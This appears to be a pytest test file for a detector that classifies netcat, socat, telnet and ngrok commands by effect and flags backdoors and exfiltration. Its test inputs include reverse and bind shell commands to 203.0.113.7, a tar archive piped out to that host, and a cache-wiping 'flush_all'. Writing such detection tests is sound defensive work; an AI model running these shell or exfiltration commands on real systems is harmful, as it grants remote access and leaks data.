import pytest
from system_calls import call_of, line_of, lines, marks

from sentinel.live.reading.calls import Call
from sentinel.live.reading.sockets import PROGRAMS


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("nc -zv db-1 5432", "reads endpoint db-1 one"),
        ("nc -w 3 -z db-1 5432", "reads endpoint db-1 one"),
        ("nc -lvnp 4444 -e /bin/sh", "executes code 4444 unknown + exposes host 4444 one"),
        ("nc 203.0.113.7 4444 -e /bin/bash",
         "executes code 203.0.113.7 unknown + exposes host 203.0.113.7 one"),
        ("nc -l 8080", "exposes network 8080 one"),
        ("nc host 80", "unread"),
        ("telnet db-1 5432", "reads endpoint db-1 one"),
        ("wg show", "reads network - one"),
        ("ngrok http 8080", "exposes network http set + exposes network 8080 set"),
        ("socat TCP-LISTEN:80,fork TCP:db:5432",
         "exposes network TCP-LISTEN:80,fork TCP:db:5432 one"),
    ],
)  # fmt: skip
def test_a_connection_is_looked_at_opened_or_tied_to_a_shell(command, expected):
    assert lines(PROGRAMS, command) == expected


def test_a_connection_tied_to_a_shell_is_a_backdoor():
    assert "backdoor" in marks(PROGRAMS, "nc -e /bin/sh 203.0.113.7 4444")
    assert "backdoor" in marks(PROGRAMS, "socat TCP:203.0.113.7:1 EXEC:/bin/sh,pty")


@pytest.mark.parametrize(
    ("stdin", "expected"),
    [
        ("flush_all", "deletes cache cache-1 account"),
        ("stats", "reads endpoint cache-1 one"),
        ("stats\nflush_all", "deletes cache cache-1 account"),
        ("", "reads endpoint cache-1 one"),
    ],
)
def test_words_fed_to_a_server_are_read(stdin, expected):
    call = Call(
        "nc", call_of("nc cache-1 11211").words, stdin=call_of("nc", stdin=stdin or " ").stdin
    )
    assert [line_of(each) for each in PROGRAMS["nc"](call).effects] == [expected]


def test_a_file_piped_to_a_host_is_sent_away():
    found = PROGRAMS["nc"](call_of("nc 203.0.113.7 9000", piped="tar"))
    assert found.effects[0].kind.value == "exfiltrates"


@pytest.mark.parametrize("program", sorted(PROGRAMS))
def test_no_program_is_silent_without_arguments(program):
    found = PROGRAMS[program](Call(program, ()))
    assert found.effects or found.opaque
